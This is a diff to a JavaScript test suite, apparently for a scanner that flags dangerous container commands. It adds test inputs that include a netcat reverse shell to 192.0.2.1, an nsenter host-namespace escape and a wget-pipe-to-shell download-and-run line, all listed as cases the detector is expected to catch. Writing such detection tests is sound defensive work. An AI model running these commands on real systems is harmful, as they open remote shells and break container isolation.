@@ -110,6 +110,9 @@ describe('a shell where a shell is expected', () => {
     ['sh', '-c', 'envsubst < /tmp/a > /etc/b && exec nginx -g "daemon off;"'],
     ['/bin/bash', '-lc', 'for i in 1 2 3; do echo $i; sleep "$(cat /tmp/n)"; done'],
     ['/usr/bin/tini', '--', 'sh', '-ec', 'cd /app && npm run migrate; exec node server.js'],
+    ['sh', '-c', 'curl -s http://localhost/health | python3 -c "import json,sys; json.load(sys.stdin)"'],
+    ['sh', '-c', 'curl -o /app/config.json http://config/app && exec ./start.sh'],
+    ['sh', '-c', 'until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done; exec app'],
     ['python', '-c', 'print(1)'],
     ['perl', '-E', 'sleep 300'],
   ])('%j %j %j … is no finding at strictness 1, and an interpreter at 2', (...words) => {
@@ -131,6 +134,8 @@ describe('a shell where a shell is expected', () => {
     [['perl', '-e', 'system("id")'], 'interpreter'],
     [['node', '-e', 'require("child_process").execSync("id")'], 'interpreter'],
     [['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'], 'encoded-code'],
+    [['nc', '-e', '/bin/sh', '192.0.2.1', '4444'], 'shell-injection'],
+    [['nsenter', '-t', '1', '-m', 'sh'], 'shell-injection'],
     [['busybox', 'sh', '-c', 'wget -q -O - http://x.example | ash'], 'download-and-run'],
   ])('%j: %s', (words, rule) => {
     expect(rules(command(...words))).toContain(rule);
